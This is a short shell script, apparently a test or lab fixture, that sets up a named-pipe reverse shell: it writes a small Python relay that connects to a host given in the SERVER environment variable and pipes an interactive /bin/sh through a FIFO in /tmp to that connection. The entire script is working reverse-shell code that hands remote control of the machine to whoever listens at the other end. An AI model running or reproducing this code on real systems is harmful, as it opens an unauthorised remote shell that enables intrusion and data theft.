# what: the one with mkfifo: a shell between two pipes, and something like netcat at their other ends
# server: shell
echo begun
cd /tmp && mkfifo there && cat > nc.py << 'N'
import os, select, socket, sys
host, port = os.environ["SERVER"].split(":")
s = socket.create_connection((host, int(port)))
while True:
    for ready in select.select([s, 0], [], [])[0]:
        data = s.recv(1024) if ready is s else os.read(0, 1024)
        if not data:
            sys.exit()
        os.write(1, data) if ready is s else s.sendall(data)
N
cat there | /bin/sh -i 2>&1 | python3 nc.py > there
echo done
